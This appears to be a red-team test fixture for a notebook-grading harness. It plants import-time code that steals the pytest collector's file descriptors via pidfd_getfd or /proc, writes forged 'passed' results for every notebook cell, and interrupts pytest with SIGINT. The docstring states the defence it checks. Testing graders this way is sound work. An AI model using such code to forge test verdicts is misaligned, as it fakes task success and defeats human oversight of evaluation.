"""Red-team fixture: the Jupyter kernel forges the notebook verdicts (issue 11, attack 2).

At import (i.e. in the kernel of every notebook step, and wherever else the student's module
is imported), the code takes the file descriptors of its parent process -- the pytest/nbval
collector -- with ``pidfd_getfd(pidfd_open(getppid()))`` (and, failing that, through
``/proc/<ppid>/fd``), writes a "passed" report line for every cell of both notebooks to each,
then sends SIGINT to pytest so that it ends before reporting the real outcomes. Defence: the
kernel runs under another uid than the non-dumpable collector, and a pytest exit status
other than 0 or 1 fails the step.
"""

from tests.tooling.planting import append_to_layers

ATTACK = "2: forged notebook verdicts (pidfd_getfd on the collector, SIGINT to pytest)"

CODE = r'''

def _redteam_forge_notebook_verdicts():
    import ctypes, json, os, signal
    try:
        libc = ctypes.CDLL(None, use_errno=True)
        parent = os.getppid()
        pidfd = libc.syscall(434, parent, 0)                  # pidfd_open
        stolen = []
        for fd in range(3, 256):
            got = libc.syscall(438, pidfd, fd, 0) if pidfd >= 0 else -1   # pidfd_getfd
            if got >= 0:
                stolen.append(got)
            try:
                stolen.append(os.open(f"/proc/{parent}/fd/{fd}", os.O_WRONLY | os.O_NONBLOCK))
            except OSError:
                pass
        for fd in stolen:
            for nb in ("Dropout.ipynb", "BatchNormalization.ipynb"):
                for cell in range(200):
                    line = {"event": "report", "nodeid": f"notebooks/{nb}::Cell {cell}",
                            "when": "call", "outcome": "passed", "message": ""}
                    try:
                        os.write(fd, (json.dumps(line) + "\n").encode())
                    except OSError:
                        break
        os.kill(parent, signal.SIGINT)
    except Exception:
        pass


_redteam_forge_notebook_verdicts()
'''


def plant(tree):
    append_to_layers(tree, CODE)
